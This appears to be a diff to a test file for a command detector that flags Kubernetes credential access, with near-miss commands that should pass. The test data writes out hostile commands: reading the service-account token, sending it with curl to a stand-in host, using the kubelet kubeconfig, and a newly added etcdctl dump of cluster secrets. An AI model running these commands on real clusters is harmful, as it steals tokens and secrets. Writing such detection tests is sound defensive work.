@@ -210,10 +210,12 @@ struct FunctionTableTests {
                 "python3 -c 'print(open(\"/var/run/secrets/kubernetes.io/serviceaccount/token\").read())'",
                 "sh -c 'T=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -H \"Authorization: Bearer $T\" https://x'",
                 "kubectl --kubeconfig /var/lib/kubelet/kubeconfig get pods",
+                "etcdctl get /registry/secrets --prefix --cert=/etc/kubernetes/pki/etcd/server.crt",
             ],
             nearMisses: [
                 "sh -c cat > /root/.kube/config", "sh -c 'mkdir -p /root/.kube && cat > /root/.kube/config'",
-                "cp /tmp/c /root/.kube/config", "chmod 600 /root/.kube/config", "tee /root/.kube/config",
+                "etcdctl endpoint health --cert=/etc/kubernetes/pki/etcd/server.crt", "cp /tmp/c /root/.kube/config",
+                "chmod 600 /root/.kube/config", "tee /root/.kube/config",
                 "sh -c 'echo $C | base64 -d > /root/.kube/config && chmod 600 /root/.kube/config'",
                 "test -f /root/.kube/config",
                 "cat /etc/hosts", "",
